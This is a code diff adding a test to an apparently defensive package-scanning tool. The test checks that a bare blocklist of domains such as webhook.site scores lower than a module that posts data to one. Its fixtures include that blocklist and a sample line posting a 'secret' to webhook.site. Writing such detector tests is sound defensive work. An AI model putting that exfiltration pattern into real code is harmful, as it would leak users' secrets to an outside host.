@@ -79,3 +79,19 @@ def test_bot_token_written_into_the_code_is_reported(engine: Engine) -> None:
     assert found == [
         {"file": "tidy-strings-0.4.0/t/bot.py", "urls": ["https://api.telegram.org/bot"]}
     ]
+
+
+def test_bare_host_names_in_a_file_that_sends_nothing_weigh_little(engine: Engine) -> None:
+    """A blocklist naming ``webhook.site`` is a list of names; a module posting to it is not."""
+    from tests.analysis.builders import package
+    from threatfeed.analysis.scoring import rule_points
+
+    listing = "BLOCKED = {'mailinator.com', 'webhook.site', 'x.duckdns.org'}\n"
+    posting = "import requests\nrequests.post('https://webhook.site/abc', data=secret)\n"
+    found = [
+        suspicious_url_references_rule(package(engine, sdist({"t/m.py": code})))
+        for code in (listing, posting)
+    ]
+    points = [rule_points(indicator) for indicator in found if indicator is not None]
+    assert len(points) == 2
+    assert points[0] < points[1] / 2
